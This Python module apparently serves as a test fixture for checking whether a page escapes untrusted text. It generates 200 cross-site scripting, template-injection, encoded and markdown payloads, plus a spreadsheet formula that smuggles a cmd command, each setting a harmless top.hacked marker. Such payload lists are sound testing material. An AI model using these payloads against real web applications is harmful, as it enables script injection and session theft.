"""Two hundred texts that would run as script where a page did not treat them as text. Each sets ``top.hacked``."""

from __future__ import annotations

RUN = "top.hacked=1"
_TAGS = [
    "<script>{x}</script>", "<img src=x onerror='{x}'>", "<svg onload={x}>", "<svg><script>{x}</script></svg>", "<body onload={x}>",
    "<iframe srcdoc='<script>{x}</script>'></iframe>", "<iframe src='javascript:{x}'></iframe>", "<details open ontoggle={x}>",
    "<video><source onerror={x}></video>", "<audio src=x onerror={x}>", "<input autofocus onfocus={x}>", "<select autofocus onfocus={x}>",
    "<textarea autofocus onfocus={x}>", "<marquee onstart={x}>", "<object data='javascript:{x}'></object>", "<embed src='javascript:{x}'>",
    "<a href='javascript:{x}'>a</a>", "<math><a xlink:href='javascript:{x}'>a</a></math>", "<form action='javascript:{x}'><button>a",
    "<button onclick={x}>a", "<style onload={x}></style>", "<link rel=stylesheet href=x onerror={x}>", "<meta http-equiv=refresh content='0;javascript:{x}'>",
    "<template><script>{x}</script></template>", "<noscript><p title='</noscript><img src=x onerror={x}>'>",
]  # fmt: skip
_BREAKS = ["{t}", "</script>{t}", "'>{t}", '">{t}', "`{t}`", "-->{t}", "]]>{t}", "</title></style></textarea>{t}"]
_OTHERS = [
    "${{{x}}}", "`${{{x}}}`", "{{{{{x}}}}}", "{{{{constructor.constructor('{x}')()}}}}", "';{x};//", '";{x};//', "\\';{x};//", "</script>';{x};'",
    "javascript:{x}", "JaVaScRiPt:{x}", "java\tscript:{x}", "data:text/html,<script>{x}</script>", "vbscript:{x}", "{{% {x} %}}", "<%= {x} %>",
    "[a](javascript:{x})", "![a](x\" onerror=\"{x})", "<<script>{x}//<</script>", "\\u003cscript\\u003e{x}\\u003c/script\\u003e", "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;", "%3Cscript%3E{x}%3C/script%3E", "$$\\href{{javascript:{x}}}{{a}}$$", ":material/{x}:", "=cmd|'/c {x}'!A1",
]  # fmt: skip

PAYLOADS = [b.format(t=t.format(x=RUN)) for b in _BREAKS for t in _TAGS]
PAYLOADS = PAYLOADS[: 200 - len(_OTHERS)] + [t.format(x=RUN) for t in _OTHERS]
